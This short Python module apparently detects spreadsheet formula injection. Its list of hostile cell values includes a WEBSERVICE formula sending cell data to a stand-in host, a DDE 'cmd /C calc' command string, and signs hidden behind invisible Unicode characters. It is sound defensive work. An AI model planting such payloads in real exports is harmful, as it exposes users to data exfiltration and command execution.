"""Cells that a spreadsheet might run."""

import re
import unicodedata

SIGNS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦"]
VISIBLE = {sign for sign in SIGNS if sign.isprintable()}
BEFORE = ["", " ", "\u3000", "\u00a0", "\u2003", "\u200b", "\ufeff", "\u202e", "\ufeff \u200b"]
HOSTILE = [before + sign + "SUM(1,1)的说法" for sign in SIGNS for before in BEFORE] + [
    "=1+1",
    "=1+1的说法",
    "-2+3",
    "+1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://x.example","点")',
    '=WEBSERVICE("http://x.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    '=DDE("soffice";"x";"y")',
    "@SUM(A1:A2)",
    '","=1+1',
    '"=1+1"',
    "第一行\n=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "第一行\r=1+1",
    "第一行\r\n\u3000＝1+1\n\ufeff-1",
    "'=1+1",
    "{=1+1}",
]


def runs(cell: str) -> bool:
    """Does a line of it begin with a sign, after all that is not seen?"""
    return any(seen(line)[:1] in VISIBLE for line in re.split("[\r\n]", cell))


def seen(text: str) -> str:
    """Without blanks, marks and controls."""
    return "".join(sign for sign in text if unicodedata.category(sign)[0] not in "ZC")
